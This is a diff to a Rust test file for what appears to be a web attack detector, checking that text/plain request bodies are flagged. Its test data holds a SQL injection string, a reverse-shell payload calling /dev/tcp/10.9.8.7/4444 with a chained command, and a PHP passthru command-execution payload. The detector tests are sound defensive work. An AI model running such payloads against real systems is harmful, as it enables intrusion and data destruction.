@@ -141,6 +141,21 @@ fn bodies_are_parsed_by_what_they_are() {
     assert_eq!(first(&v).location.part, Part::Multipart);
     // Raw body of unknown type.
     assert!(post("application/octet-stream", b"x'; DROP TABLE users; --").is_attack());
+    // Plain text that looks like a form or XML reaches the app whole: the
+    // field split or XML reading must not cut the payload apart.
+    for body in [
+        &b"x=/tmp&&(sh)0>/dev/tcp/10.9.8.7/4444"[..],
+        b"<?xml :passthru('id');",
+    ] {
+        let v = post("text/plain", body);
+        assert!(v.is_attack(), "{}", String::from_utf8_lossy(body));
+        assert!(
+            v.findings().iter().any(|f| f.location.part == Part::Body),
+            "{}",
+            v.to_json()
+        );
+    }
+    assert!(!post("text/plain", b"page=2&sort=price&dir=asc").is_attack());
 }
 
 #[test]
